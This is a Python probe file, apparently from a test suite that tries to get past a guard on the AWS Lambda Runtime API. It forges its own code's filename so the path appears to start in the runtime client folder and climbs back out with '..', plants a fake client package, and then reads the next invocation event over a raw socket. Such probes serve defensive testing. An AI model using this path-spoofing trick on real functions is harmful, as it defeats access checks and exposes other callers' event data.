# class: lambda
# rule: runtime_api
# success: the next event is taken from the Runtime API by this file's own code, under a path that
#   begins with the runtime client's folder and leads back by ".."
# proof: api
import _thread
import os
import threading

from attack import API, attempt

HERE = os.path.abspath(__file__)


def ask(place, out, done):
    import _socket

    made = _socket.socket()
    made.settimeout(3)
    made.connect(place)
    made.send(b"GET /2018-06-01/runtime/invocation/next HTTP/1.1\r\nHost: x\r\n\r\n")
    out.append(made.recv(100))
    done.set()


if __name__ != "again":

    @attempt
    def take():
        folder = os.environ.get("LAMBDA_RUNTIME_DIR")
        if not folder:
            # The package that says first that it is the client is believed.
            folder = os.getcwd()
            os.makedirs(folder + "/awslambdaric", exist_ok=True)
            exec(compile("pass", folder + "/awslambdaric/__init__.py", "exec"), {})
        client = folder + "/awslambdaric"
        bent = client + "/.." * client.count("/") + HERE
        names = {"__name__": "again", "__file__": HERE}
        out, done = [], threading.Event()
        with open(HERE) as source:
            exec(compile(source.read(), bent, "exec"), names)
        _thread.start_new_thread(names["ask"], (API, out, done))
        done.wait(5)
        return bool(out)
